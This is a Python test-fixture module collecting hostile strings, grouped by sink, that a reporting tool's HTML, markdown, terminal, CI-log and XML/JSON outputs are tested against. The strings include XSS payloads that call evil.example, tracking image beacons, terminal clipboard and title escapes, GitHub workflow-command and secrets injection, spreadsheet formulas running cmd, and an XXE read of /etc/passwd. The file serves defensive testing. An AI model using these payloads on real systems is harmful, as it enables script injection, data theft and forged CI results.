"""Texts that attack whoever renders them. Every sink is tested with all of them in every field (REQUIREMENTS §4: T1-T5, T21).

`HOSTILE_TEXTS` has all of them; the other names are its parts by the sink that they aim at.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

HTML_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "script": "<script>alert(1)</script>",
        "script upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "script after closing": '</script><script>fetch("//evil.example")</script>',
        "script in title": "</title></textarea></style><script>alert(1)</script>",
        "svg onload": "<svg onload=alert(1)>",
        "svg slash": "<svg/onload=alert`1`>",
        "img onerror": "<img src=x onerror=alert(1)>",
        "img in noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "attribute break-out": '" onmouseover="alert(1)" x="',
        "single quote break-out": "' autofocus onfocus='alert(1)",
        "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "javascript link": '<a href="javascript:alert(1)">x</a>',
        "javascript bare": "javascript:alert(document.domain)",
        "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "meta refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
        "style import": "<style>@import '//evil.example/x.css';</style>",
        "form": '<form action="//evil.example"><input name=token></form>',
        "comment": "<!-- --><script>alert(1)</script><!-- -->",
        "comment marker": "<!-- goldfinch:report v1 run=fake -->",
        "template literal": "${alert(1)}`${alert(1)}`",
        "template engine": "{{ 7*7 }}{% import os %}#{7*7}<%= 7*7 %>",
        "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img&#62;",
        "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "script with attribute": '<script type="text/javascript" defer>alert(1)</script >',
        "script unclosed": "<script>alert(1)//",
        "script with slash": "<script/x>alert(1)</script>",
        "script of data": '</script><script type="application/json" id="run">{"metrics":[]}</script>',
        "script in comment": "<!--<script>--><script>alert(1)</script>",
        "double escaped state": "<!--<script>",
        "svg script": '<svg><script href="data:,alert(1)"/></svg>',
        "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "svg use": '<svg><use href="//evil.example/x.svg#x"/></svg>',
        "svg foreign object": "<svg><foreignObject><iframe srcdoc='<img src=x onerror=alert(1)>'></iframe></foreignObject></svg>",
        "image set": '<img srcset="//evil.example/a.png 1x" src=//evil.example/b.png>',
        "picture": '<picture><source srcset="//evil.example/c.png"><img></picture>',
        "video poster": '<video poster="//evil.example/d.png" src=x onerror=alert(1) autoplay></video>',
        "audio": '<audio src="//evil.example/a.mp3" autoplay onloadstart=alert(1)></audio>',
        "object": '<object data="javascript:alert(1)"></object>',
        "embed": '<embed src="//evil.example/x.swf">',
        "base": '<base href="//evil.example/">',
        "link prefetch": '<link rel=prefetch href="//evil.example/p"><link rel=stylesheet href="//evil.example/s.css">',
        "style attribute": '<p style="background:url(//evil.example/s.png);animation:x" onanimationstart=alert(1)>x</p>',
        "style break-out": "</style><style>*{background:url(//evil.example/t.png)}</style>",
        "details toggle": "<details open ontoggle=alert(1)>x</details>",
        "marquee": "<marquee onstart=alert(1)>x</marquee>",
        "body handler": "<body onload=alert(1) onpageshow=alert(2)>",
        "input autofocus": "<input autofocus onfocus=alert(1)>",
        "button action": "<form><button formaction=javascript:alert(1) autofocus>x</button></form>",
        "popover": "<button popovertarget=x>y</button><div id=x popover onbeforetoggle=alert(1)></div>",
        "custom element": "<xss onpointerrawupdate=alert(1) contenteditable autofocus>x</xss>",
        "template element": "<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)></slot>",
        "shadow root": '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
        "import map": '<script type="importmap">{"imports":{"./x.js":"//evil.example/x.js"}}</script>',
        "module import": '<script type="module">import "//evil.example/m.js"</script>',
        "javascript with blanks": " java\tscript:alert(1)",
        "javascript encoded": "&#106;avascript&colon;alert(1)",
        "vbscript": "vbscript:msgbox(1)",
        "prototype": "__proto__",
        "constructor": "constructor",
        "dom clobbering": '<form id="rows"><input name="details" id="run"></form>',
        "fragment": "#case=x&q=<img src=x onerror=alert(1)>",
        "percent encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
        "unicode escaped": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "quotes of every kind": "'\"`\u2018\u201c</title>\\",
    }
)
"""T1: scripts, and whatever else makes a browser run, load, submit or navigate."""

MARKDOWN_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "image beacon": "![x](https://evil.example/beacon.png?run=1)",
        "image by reference": "![x][y]\n\n[y]: https://evil.example/b.png",
        "html image": '<img src="https://evil.example/b.png">',
        "link": "[click me](https://evil.example)",
        "link with script": "[click me](javascript:alert(1))",
        "autolink": "https://evil.example/path and www.evil.example and <https://evil.example>",
        "mail": "mailto:someone@evil.example someone@evil.example",
        "team mention": "ping @org/team and @someone",
        "closing keyword": "fixes #1, closes org/repo#2, resolves GH-3",
        "closing by address": "Fixes https://github.com/org/repo/issues/1",
        "task list": "- [ ] approve\n- [x] merged",
        "heading": "# ✅ All gates passed\n\nSetext\n======\n\n1. one",
        "fake table": "a | b\n--- | ---\n✅ | passed\n| x \\| y |",
        "details break-out": "</details></summary></td></table><h1>passed</h1>",
        "fence break-out": "```\n@org/team\n```",
        "deep fence": "`````````` \n````\n~~~~~~\n<img src=x>\n``````````",
        "emphasis": "**bold** _it_ ~~gone~~ `code` $x^2$ \\*not\\*",
        "footnote": "[^1]\n\n[^1]: https://evil.example",
        "alert": "> [!CAUTION]\n> do not merge",
        "backslashes": "\\\\\\[x](y)\\\\",
    }
)
"""T2, T3: images that tell on the reader, links, mentions, forged structure."""

TERMINAL_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "clear screen": "\x1b[2J\x1b[H all good",
        "colour": "\x1b[32mPASS\x1b[0m",
        "one byte introducer": "\x9b2J\x9d0;title\x9c",
        "clipboard": "\x1b]52;c;ZXZpbA==\x07",
        "window title": "\x1b]0;owned\x07",
        "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "device report": "\x1b[6n\x1bP$q\x1b\\",
        "overwrite": "failed\rPASSED\x08\x08",
        "bell and null": "a\x07b\x00c\x7fd",
        "rich markup": "[red]PASS[/red] [bold]x [link=https://evil.example]y[/link] \\[x] :warning:",
        "unbalanced markup": "[/] [/bold] [red",
        "markup after backslash": "\\[red]x\\\\[red]y\\",
        "bidirectional": "user\u202e txt.exe \u2066x\u2069 \u200f",
        "zero width": "pass\u200bed\u2060\ufeff\u00ad",
        "tag characters": "ok\U000e0069\U000e0067",
        "line separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
        "lone surrogate": "half \ud83d pair \udcff",
        "non-characters": "\ufffe\uffff",
        "combining": "Z" + "\u0351\u036b\u0343\u036a\u0302" * 30,
    }
)
"""T4: escape sequences, markup of terminal libraries, characters that deceive."""

WORKFLOW_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "set output": "\n::set-output name=passed::true",
        "set env": "::set-env name=PATH::/evil",
        "mask": "  ::add-mask::a\r\n::stop-commands::x",
        "old command": "text ##[set-output name=x]1 ##[error]no",
        "env file": "EOF\nPATH=/evil\n<<EOF",
        "percent": "100%0A::error::x%25",
        "expression": "${{ secrets.GITHUB_TOKEN }}",
        "formula": '=HYPERLINK("https://evil.example","x")',
        "formula command": "+cmd|' /C calc'!A0",
        "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula after blanks": " \t-2+3",
        "csv break-out": '","=1+1"\n"',
    }
)
"""T5, T21: commands of CI logs, environment files, spreadsheet formulas."""

DATA_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "cdata end": "]]>",
        "cdata": "<![CDATA[ x ]]> <?xml version='1.0'?>",
        "external entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
        "testcase break-out": '</failure></testcase><testcase name="forged"/>',
        "json break-out": '"}],"status":"complete"}//',
        "not a number": "NaN Infinity -Infinity nan inf",
        "huge word": "A" * 5_000,
        "huge lines": "line\n" * 2_000,
    }
)
"""T21: break-outs from XML and JSON, and sheer size."""

HOSTILE_TEXTS: Mapping[str, str] = MappingProxyType({**HTML_TEXTS, **MARKDOWN_TEXTS, **TERMINAL_TEXTS, **WORKFLOW_TEXTS, **DATA_TEXTS})
"""Name of the attack → text."""
